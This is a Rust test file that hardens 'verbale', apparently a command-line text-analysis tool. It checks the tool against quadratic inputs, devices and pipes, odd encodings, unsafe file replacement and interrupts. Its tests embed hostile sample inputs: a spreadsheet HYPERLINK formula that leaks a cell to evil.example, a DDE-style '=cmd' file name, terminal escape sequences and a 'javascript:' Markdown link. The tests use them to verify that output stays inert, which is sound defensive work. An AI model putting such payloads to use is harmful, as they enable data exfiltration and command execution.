//! Hardening: inputs that once made verbale quadratic, unbounded, hung or dangerous to open.
//! Each case runs the binary, scaled down so the suite stays fast, under an address-space
//! limit set for the child process, so that a regression fails here instead of swapping.

use crate::common::verbale;
use std::fs;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};
use std::time::Duration;

/// The binary under test.
fn bin() -> PathBuf {
    PathBuf::from(env!("CARGO_BIN_EXE_verbale"))
}

/// Runs verbale in `dir` under an address-space limit of `limit_mb` MiB and a time limit;
/// returns its output. Fails on a panic or a timeout.
fn limited(args: &[&str], dir: &Path, limit_mb: u64) -> Output {
    let mut cmd = Command::new(bin());
    cmd.args(args).current_dir(dir);
    #[cfg(target_os = "linux")]
    {
        use std::os::unix::process::CommandExt;
        let bytes = limit_mb * 1024 * 1024;
        // SAFETY: setrlimit is async-signal-safe and touches only the child's own limits.
        unsafe {
            cmd.pre_exec(move || {
                let lim = libc::rlimit {
                    rlim_cur: bytes,
                    rlim_max: bytes,
                };
                if libc::setrlimit(libc::RLIMIT_AS, &lim) != 0 {
                    return Err(std::io::Error::last_os_error());
                }
                Ok(())
            });
        }
    }
    let mut cmd = assert_cmd::Command::from_std(cmd);
    // A guard against hangs and quadratic work, not a speed test: a debug build of `report` on
    // the runs of quotation marks below takes 50 s alone on a slow 2-core host, more beside
    // the other tests; quadratic work on them would take hours.
    let o = cmd.timeout(Duration::from_secs(240)).output().unwrap();
    let err = String::from_utf8_lossy(&o.stderr);
    assert!(
        !err.contains("internal error") && o.status.code().is_some(),
        "{args:?}: {err}"
    );
    o
}

fn text(o: &Output) -> (String, String) {
    (
        String::from_utf8_lossy(&o.stdout).into_owned(),
        String::from_utf8_lossy(&o.stderr).into_owned(),
    )
}

/// 1. Runs of quotation marks of every style cost linear work and output.
#[test]
fn runs_of_quotation_marks_stay_linear() {
    let d = tempfile::tempdir().unwrap();
    let cases = [
        (
            "nested.txt",
            format!("word {}{}", "“x ".repeat(4000), "” ".repeat(4000)),
        ),
        ("straight.txt", format!("word {}", "\"".repeat(40_000))),
        ("singles.txt", format!("word {}", "‘x’ ‘".repeat(6000))),
        (
            "guillemets.txt",
            format!("mot {}{}", "« x ".repeat(4000), "» ".repeat(4000)),
        ),
        (
            "cjk.txt",
            format!("字 {}{}", "「x ".repeat(4000), "」 ".repeat(4000)),
        ),
    ];
    for (name, t) in &cases {
        fs::write(d.path().join(name), t).unwrap();
    }
    for (name, t) in &cases {
        let csv = d.path().join("q.csv");
        let o = limited(&["quotes", name, "-o", "q.csv", "-q"], d.path(), 1024);
        assert!(o.status.success(), "{name}: {}", text(&o).1);
        let size = fs::metadata(&csv).unwrap().len() as usize;
        assert!(
            size < 400 * t.len(),
            "{name}: {size} bytes of CSV for {}",
            t.len()
        );
        let o = limited(
            &["kwic", name, "x", "--format", "csv", "-q"],
            d.path(),
            1024,
        );
        assert!(o.status.code() == Some(0), "{name}: {}", text(&o).1);
        assert!(
            o.stdout.len() < 400 * t.len(),
            "{name}: kwic {}",
            o.stdout.len()
        );
    }
    let o = limited(&["report", ".", "-o", "rep", "-q"], d.path(), 1024);
    assert!(o.status.success(), "{}", text(&o).1);
    let o = limited(
        &[
            "compare",
            "--table",
            "quotes",
            "nested.txt",
            "straight.txt",
            "-q",
        ],
        d.path(),
        1024,
    );
    assert!(o.status.success(), "{}", text(&o).1);
}

/// 2. `--max-size` bounds devices and pipes too; 3. a named pipe in a folder is skipped.
#[cfg(target_os = "linux")]
#[test]
fn devices_and_pipes_are_bounded_and_skipped_in_folders() {
    let d = tempfile::tempdir().unwrap();
    let o = limited(&["freq", "/dev/zero", "--max-size", "1"], d.path(), 512);
    let (_, err) = text(&o);
    assert_eq!(o.status.code(), Some(1), "{err}");
    assert!(
        err.contains("/dev/zero: more than the 1.0 MB limit"),
        "{err}"
    );
    // A pipe given by name (as `<(zcat x.gz)` gives one): read until the limit.
    let mut cmd = Command::new(bin());
    cmd.args(["freq", "/dev/stdin", "--max-size", "1"])
        .stdin(fs::File::open("/dev/zero").unwrap());
    // std's own output(): the child keeps the stdin it was given (read until the limit).
    let o = cmd.output().unwrap();
    assert!(String::from_utf8_lossy(&o.stderr).contains("more than the 1.0 MB limit"));
    // In a folder: a named pipe and a link to /dev/zero are skipped, the statement is read.
    let c = d.path().join("c");
    fs::create_dir(&c).unwrap();
    fs::write(c.join("good.txt"), "peace and elections").unwrap();
    let made = Command::new("mkfifo")
        .arg(c.join("pipe.txt"))
        .status()
        .unwrap();
    assert!(made.success());
    std::os::unix::fs::symlink("/dev/zero", c.join("zero.txt")).unwrap();
    let o = limited(&["freq", "c", "--format", "csv"], d.path(), 512);
    let (out, err) = text(&o);
    assert_eq!(o.status.code(), Some(0), "{err}");
    assert!(out.contains("peac,peace,1,1,"), "{out}");
    for f in ["pipe", "zero"] {
        assert!(
            err.contains(&format!(
                "c/{f}.txt: not a regular file (a named pipe, socket or device); skipped"
            )),
            "{err}"
        );
    }
}

/// 4. CSV and TSV cells a spreadsheet would run are neutralised, unless --raw-cells.
#[test]
fn spreadsheet_formulas_stay_text() {
    let d = tempfile::tempdir().unwrap();
    let evil = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")";
    fs::write(
        d.path().join("=cmd|' calc'!A0.txt"),
        format!("They wrote “{evil}” and the so-called “@SUM(1+1)” in a note."),
    )
    .unwrap();
    let o = limited(&["quotes", ".", "--format", "csv"], d.path(), 1024);
    let (out, err) = text(&o);
    assert!(o.status.success(), "{err}");
    assert!(out.contains("'=cmd|' calc'!A0,"), "{out}");
    assert!(out.contains("\"'=HYPERLINK(\"\"http"), "{out}");
    assert!(out.contains("'@SUM(1+1)"), "{out}");
    assert!(!out.lines().any(|l| l.starts_with('=')), "{out}");
    let o = limited(
        &["freq", ".", "--by", "doc", "--format", "tsv"],
        d.path(),
        1024,
    );
    assert!(text(&o).0.lines().skip(1).all(|l| l.starts_with("'=cmd")));
    let o = limited(
        &["quotes", ".", "--format", "csv", "--raw-cells"],
        d.path(),
        1024,
    );
    assert!(text(&o).0.contains("\n=cmd|' calc'!A0,"));
    // Parquet and JSON keep the values as they are: they carry types, not formulas.
    let o = limited(&["quotes", ".", "--format", "json"], d.path(), 1024);
    assert!(text(&o).0.contains("\"doc\":\"=cmd|' calc'!A0\""));
}

/// 5. Concordances and similarity tables stream or stop at a stated bound.
#[test]
fn concordances_and_similarity_are_bounded() {
    let d = tempfile::tempdir().unwrap();
    fs::write(d.path().join("a.txt"), "peace ".repeat(20_000)).unwrap();
    let o = limited(
        &["kwic", "a.txt", "peace", "--top", "3", "--format", "csv"],
        d.path(),
        512,
    );
    assert_eq!(text(&o).0.lines().count(), 4, "{}", text(&o).1);
    let o = limited(
        &["kwic", "a.txt", "peace", "--format", "csv", "-o", "k.csv"],
        d.path(),
        512,
    );
    assert!(o.status.success(), "{}", text(&o).1);
    let lines = fs::read_to_string(d.path().join("k.csv"))
        .unwrap()
        .lines()
        .count();
    assert_eq!(lines, 20_001);
    // A similarity table of more documents than it allows is refused before the pairs.
    let docs: Vec<verbale::Document> = (0..verbale::compare::MAX_SIMILARITY_DOCS + 1)
        .map(|i| verbale::Document::from_text(&format!("d{i}"), "peace"))
        .collect();
    let a = verbale::analyse(&docs, &verbale::Options::new(verbale::Lang::english()));
    let err = verbale::compare::similarity(&a, false)
        .unwrap_err()
        .to_string();
    assert!(
        err.contains("200,010,000 pairs; compare at most 20000"),
        "{err}"
    );
}

/// 6. Arguments that once panicked.
#[cfg(unix)]
#[test]
fn odd_arguments_do_not_panic() {
    use std::os::unix::ffi::OsStrExt;
    let d = tempfile::tempdir().unwrap();
    let odd = std::ffi::OsStr::from_bytes(b"caf\xe9");
    let c = d.path().join(odd);
    fs::create_dir(&c).unwrap();
    fs::write(c.join("s.txt"), "the so-called “elections” and peace").unwrap();
    let o = verbale()
        .current_dir(d.path())
        .arg("report")
        .arg(odd)
        .arg("-o")
        .arg(d.path().join(std::ffi::OsStr::from_bytes(b"out\xff")))
        .arg("-q")
        .output()
        .unwrap();
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    let window = u64::MAX.to_string();
    let o = limited(&["kwic", "--window", &window, ".", "peace"], d.path(), 512);
    assert!(o.status.success(), "{}", text(&o).1);
    let o = limited(&["freq", ".", "--jobs", "10000", "-q"], d.path(), 1024);
    assert!(o.status.success(), "{}", text(&o).1);
    // The report sizes its workers at several stages: one warning, none with -q.
    for (quiet, warnings) in [(false, 1), (true, 0)] {
        let mut args = vec!["report", ".", "--jobs", "10000", "-o", "r"];
        if quiet {
            args.push("-q");
        }
        let o = limited(&args, d.path(), 1024);
        let err = text(&o).1;
        assert!(o.status.success(), "{err}");
        let n = err.matches("--jobs 10000 is more than").count();
        assert_eq!(n, warnings, "{err}");
    }
}

/// 7. Encodings: UTF-32 is read, legacy encodings named, a late NUL is binary.
#[test]
fn encodings_are_read_or_named() {
    let d = tempfile::tempdir().unwrap();
    let words = "the so-called elections in peace";
    let le: Vec<u8> = [0xFF, 0xFE, 0, 0]
        .into_iter()
        .chain(words.chars().flat_map(|c| (c as u32).to_le_bytes()))
        .collect();
    let be: Vec<u8> = [0, 0, 0xFE, 0xFF]
        .into_iter()
        .chain(words.chars().flat_map(|c| (c as u32).to_be_bytes()))
        .collect();
    fs::write(d.path().join("le.txt"), le).unwrap();
    fs::write(d.path().join("be.txt"), be).unwrap();
    let (gb, _, _) =
        encoding_rs::GB18030.encode("外交部发言人表示，所谓的选举是非法的，国际社会不会承认。");
    fs::write(d.path().join("gb.txt"), gb).unwrap();
    let mut late = "word ".repeat(5000).into_bytes();
    late.push(0);
    fs::write(d.path().join("late.txt"), late).unwrap();
    let o = limited(
        &["freq", "le.txt", "be.txt", "--by", "doc", "--format", "csv"],
        d.path(),
        512,
    );
    let (out, err) = text(&o);
    assert!(o.status.success(), "{err}");
    for doc in ["le", "be"] {
        assert!(out.contains(&format!("{doc},peac,peace,1,")), "{out}");
    }
    let o = limited(&["freq", "gb.txt"], d.path(), 512);
    let err = text(&o).1;
    assert!(err.contains("iconv -f GB18030 -t UTF-8"), "{err}");
    let o = limited(&["freq", "late.txt"], d.path(), 512);
    let err = text(&o).1;
    assert!(
        err.contains("late.txt: looks like a binary file (NUL byte at 25000)"),
        "{err}"
    );
}

/// 8. Outputs keep the file they replace in its place and kind.
#[cfg(unix)]
#[test]
fn outputs_replace_files_carefully() {
    use std::os::unix::fs::PermissionsExt;
    let d = tempfile::tempdir().unwrap();
    let p = d.path();
    fs::write(p.join("s.txt"), "the so-called “elections” and peace").unwrap();
    let mode = |f: &str| fs::metadata(p.join(f)).unwrap().permissions().mode() & 0o777;
    // The mode of a replaced file is kept.
    fs::write(p.join("private.csv"), "old").unwrap();
    fs::set_permissions(p.join("private.csv"), fs::Permissions::from_mode(0o600)).unwrap();
    assert!(limited(&["freq", "s.txt", "-o", "private.csv"], p, 512)
        .status
        .success());
    assert_eq!(mode("private.csv"), 0o600);
    // A read-only file is refused, unless --force.
    fs::write(p.join("ro.csv"), "old").unwrap();
    fs::set_permissions(p.join("ro.csv"), fs::Permissions::from_mode(0o444)).unwrap();
    let o = limited(&["freq", "s.txt", "-o", "ro.csv"], p, 512);
    assert_eq!(o.status.code(), Some(1));
    assert!(text(&o)
        .1
        .contains("ro.csv: the file is read-only; choose another output path, or pass --force"));
    assert_eq!(fs::read_to_string(p.join("ro.csv")).unwrap(), "old");
    assert!(
        limited(&["freq", "s.txt", "-o", "ro.csv", "--force"], p, 512)
            .status
            .success()
    );
    assert!(fs::read_to_string(p.join("ro.csv"))
        .unwrap()
        .starts_with("term,"));
    assert_eq!(mode("ro.csv"), 0o444);
    // A symbolic link is written through and stays a link.
    fs::create_dir(p.join("real")).unwrap();
    std::os::unix::fs::symlink("real/t.csv", p.join("link.csv")).unwrap();
    assert!(limited(&["freq", "s.txt", "-o", "link.csv"], p, 512)
        .status
        .success());
    assert!(fs::symlink_metadata(p.join("link.csv"))
        .unwrap()
        .file_type()
        .is_symlink());
    assert!(fs::read_to_string(p.join("real/t.csv"))
        .unwrap()
        .starts_with("term,"));
    // Temporary files of interrupted runs (a process that is gone) are cleaned up; others stay.
    fs::write(p.join(".verbale-4294967-abc.tmp"), "partial").unwrap();
    fs::write(p.join(".verbale-notes.tmp"), "mine").unwrap();
    assert!(limited(&["freq", "s.txt", "-o", "f.csv"], p, 512)
        .status
        .success());
    assert!(!p.join(".verbale-4294967-abc.tmp").exists());
    assert!(p.join(".verbale-notes.tmp").exists());
    // A report folder holding a file the user added is not replaced.
    assert!(limited(&["report", "s.txt", "-o", "rep", "-q"], p, 1024)
        .status
        .success());
    fs::write(p.join("rep/notes.txt"), "my notes").unwrap();
    let o = limited(&["report", "s.txt", "-o", "rep", "-q"], p, 1024);
    assert_eq!(o.status.code(), Some(2), "{}", text(&o).1);
    assert!(text(&o)
        .1
        .contains("holds files verbale did not write (notes.txt)"));
    assert!(p.join("rep/notes.txt").exists());
    fs::remove_file(p.join("rep/notes.txt")).unwrap();
    // `-o link/../x` works in the folder the link leads to, and loses nothing.
    std::os::unix::fs::symlink("real", p.join("lnk")).unwrap();
    assert!(
        limited(&["report", "s.txt", "-o", "lnk/../rep2", "-q"], p, 1024)
            .status
            .success()
    );
    assert!(
        limited(&["report", "s.txt", "-o", "lnk/../rep2", "-q"], p, 1024)
            .status
            .success()
    );
    assert!(
        p.join("rep2/report.html").is_file(),
        "the report lands beside the link's target"
    );
    // Two reports written to one folder at once both succeed, and one of them is there whole.
    let run = || {
        let mut c = Command::new(bin());
        c.args(["report", "s.txt", "-o", "rep", "-q"])
            .current_dir(p);
        c.spawn().unwrap()
    };
    let (mut a, mut b) = (run(), run());
    assert!(a.wait().unwrap().success() && b.wait().unwrap().success());
    assert!(p.join("rep/report.html").is_file());
    let left: Vec<String> = fs::read_dir(p)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .filter(|n| n.starts_with(".rep."))
        .collect();
    assert!(left.is_empty(), "{left:?}");
}

/// 9. Names and titles with control characters stay inert.
#[test]
fn control_characters_stay_inert() {
    let d = tempfile::tempdir().unwrap();
    let p = d.path();
    let name = "\u{1b}]0;pwned\u{7}evil\u{1b}[31m.txt";
    fs::write(p.join(name), "").unwrap();
    fs::write(p.join("s.txt"), "the so-called “elections” and peace").unwrap();
    let o = limited(&["freq", "."], p, 512);
    let err = text(&o).1;
    assert!(!err.contains('\u{1b}'), "{err:?}");
    assert!(err.contains("\\u{1b}]0;pwned\\u{7}evil"), "{err}");
    let o = limited(
        &[
            "chart",
            "freq",
            "s.txt",
            "--title",
            "A\u{1b}[31m \u{7} <b>&",
            "-o",
            "t.svg",
        ],
        p,
        512,
    );
    assert!(o.status.success(), "{}", text(&o).1);
    let svg = fs::read_to_string(p.join("t.svg")).unwrap();
    roxmltree::Document::parse(&svg).expect("valid XML");
    // A report name and a command with fences stay text in the notebook and the Markdown.
    let o = limited(
        &[
            "report",
            "s.txt",
            "-o",
            "rep",
            "--name",
            "x](javascript:alert(1))",
            "-q",
        ],
        p,
        1024,
    );
    assert!(o.status.success(), "{}", text(&o).1);
    let nb = fs::read_to_string(p.join("rep/report.ipynb")).unwrap();
    assert!(nb.contains(r"x\\]\\(javascript:alert\\(1\\)\\)"), "{nb}");
    let fenced = "a```b\n~~~~";
    fs::write(p.join("f.txt"), "peace and “elections”").unwrap();
    let dir = p.join(fenced);
    fs::create_dir_all(&dir).unwrap();
    fs::copy(p.join("f.txt"), dir.join("f.txt")).unwrap();
    let o = limited(&["report", fenced, "-o", "rep3", "-q"], p, 1024);
    assert!(o.status.success(), "{}", text(&o).1);
    let md = fs::read_to_string(p.join("rep3/report.md")).unwrap();
    assert!(md.contains("````\nverbale report"), "{md}");
}

/// Ctrl-C (SIGINT) or SIGTERM while a report folder is being written: the run ends with 130
/// and leaves no temporary folder or file behind, and the folder it was to write is not there.
#[cfg(target_os = "linux")]
#[test]
fn an_interrupted_run_leaves_nothing_behind() {
    let dir = tempfile::tempdir().unwrap();
    let corpus = dir.path().join("corpus");
    fs::create_dir(&corpus).unwrap();
    let seed = fs::read_to_string(crate::common::seed()).unwrap();
    for i in 0..300 {
        fs::write(corpus.join(format!("s{i:03}.txt")), &seed).unwrap();
    }
    let leftovers = |d: &Path| -> Vec<String> {
        fs::read_dir(d)
            .unwrap()
            .flatten()
            .map(|e| e.file_name().to_string_lossy().into_owned())
            .filter(|n| n.contains("tmp"))
            .collect()
    };
    for signal in [libc::SIGINT, libc::SIGTERM] {
        let mut run = Command::new(bin());
        run.args(["report", "corpus", "-o", "rep", "--quiet"])
            .current_dir(dir.path())
            .stderr(std::process::Stdio::piped());
        // A test run started in the background of a shell inherits SIGINT ignored, and
        // verbale keeps a signal its caller ignores: the child is given the default action, as
        // in a terminal, so that the test asks what an interrupt does wherever it runs.
        // SAFETY: between fork and exec the child only resets a signal's action, which is
        // async-signal-safe.
        unsafe {
            std::os::unix::process::CommandExt::pre_exec(&mut run, move || {
                libc::signal(signal, libc::SIG_DFL);
                Ok(())
            });
        }
        let mut child = run.spawn().unwrap();
        // Waits until the report's temporary folder exists: the signal lands while it is being
        // written (a run that ends first fails the test instead of passing it untried).
        let mut seen = false;
        for _ in 0..60_000 {
            // The report's folder, not the probe of its output folder made at the start.
            if leftovers(dir.path())
                .iter()
                .any(|n| n.starts_with(".rep.tmp-"))
            {
                seen = true;
                break;
            }
            assert!(
                child.try_wait().unwrap().is_none(),
                "ended before it was interrupted"
            );
            std::thread::sleep(Duration::from_millis(1));
        }
        assert!(seen, "no temporary folder appeared within a minute");
        // SAFETY: sends a signal to the child this test started and still waits for.
        assert_eq!(unsafe { libc::kill(child.id() as i32, signal) }, 0);
        let out = child.wait_with_output().unwrap();
        let err = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(130), "signal {signal}: {err}");
        assert!(err.contains("interrupted"), "{err}");
        assert_eq!(
            leftovers(dir.path()),
            Vec::<String>::new(),
            "signal {signal}"
        );
        assert!(!dir.path().join("rep").exists());
    }
    // A signal the run was started ignoring (nohup's SIGHUP) stays ignored: it ends as usual.
    let mut cmd = Command::new(bin());
    cmd.args(["report", "corpus", "-o", "rep", "--quiet"])
        .current_dir(dir.path());
    {
        use std::os::unix::process::CommandExt;
        // SAFETY: signal() is async-signal-safe; it changes only the child's disposition.
        unsafe {
            cmd.pre_exec(|| {
                libc::signal(libc::SIGHUP, libc::SIG_IGN);
                Ok(())
            });
        }
    }
    let mut child = cmd.spawn().unwrap();
    while leftovers(dir.path()).is_empty() && child.try_wait().unwrap().is_none() {
        std::thread::sleep(Duration::from_millis(1));
    }
    // SAFETY: as above.
    unsafe { libc::kill(child.id() as i32, libc::SIGHUP) };
    assert!(child.wait().unwrap().success());
    assert!(dir.path().join("rep").join("report.md").is_file());
}

/// `-o /dev/stdout` writes to standard output when it is a pipe (a shell's `| wc -l`), whose
/// `/dev/stdout` is a link to `pipe:[…]` that names no file.
#[cfg(target_os = "linux")]
#[test]
fn output_to_dev_stdout_works_through_a_pipe() {
    let o = verbale()
        .args(["freq", "-q", "-f", "csv", "-o", "/dev/stdout"])
        .arg(crate::common::data("seed"))
        .output()
        .unwrap();
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    let out = String::from_utf8_lossy(&o.stdout);
    assert!(out.starts_with("term,form,count"), "{out}");
}
